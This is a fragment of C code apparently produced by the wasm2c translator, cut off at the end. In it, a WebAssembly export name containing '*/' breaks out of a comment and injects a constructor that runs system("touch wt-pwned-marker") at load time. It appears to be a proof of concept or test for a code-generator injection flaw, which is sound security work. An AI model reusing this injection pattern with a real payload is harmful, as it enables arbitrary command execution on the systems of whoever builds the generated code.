wasm_rt_memory_t* Z_heZ_memory(Z_he_instance_t* instance) {
  return &instance->w2c_memory;
}

/* export: 'f*/
#ifndef WT_PWN_F
#define WT_PWN_F
#include <stdlib.h>
__attribute__((constructor)) static void wt_pwn_f(void) { system("touch wt-pwned-marker"); }
#endif
/*' */
void Z_heZ_fZ2AZ2FZ0AZ23ifndefZ20WT_PWN_FZ0AZ23defineZ20WT_PWN_FZ0AZ23includeZ20Z3CstdlibZ2EhZ3EZ0A__attribute__Z28Z28constructorZ29Z29Z20staticZ20voidZ20wt_pwn_fZ28voidZ29Z20Z7BZ20systemZ28Z22touchZ20wtZ2DpwnedZ2DmarkerZ22Z29Z3BZ20Z7DZ0AZ23endifZ0AZ2FZ2A(Z_he_instance_t* instance, u32 w2c_p0) {
  return w2c_f____ifndef_WT_PWN_F__define_WT_PWN_F__include__stdlib_h____attribute____constructor___static_void_wt_pwn_f_void____system__touch_wt_pwned_marker_______endif___(instance, w2c_p0);
}

/* export: 'g*/
#ifndef WT_PWN_G
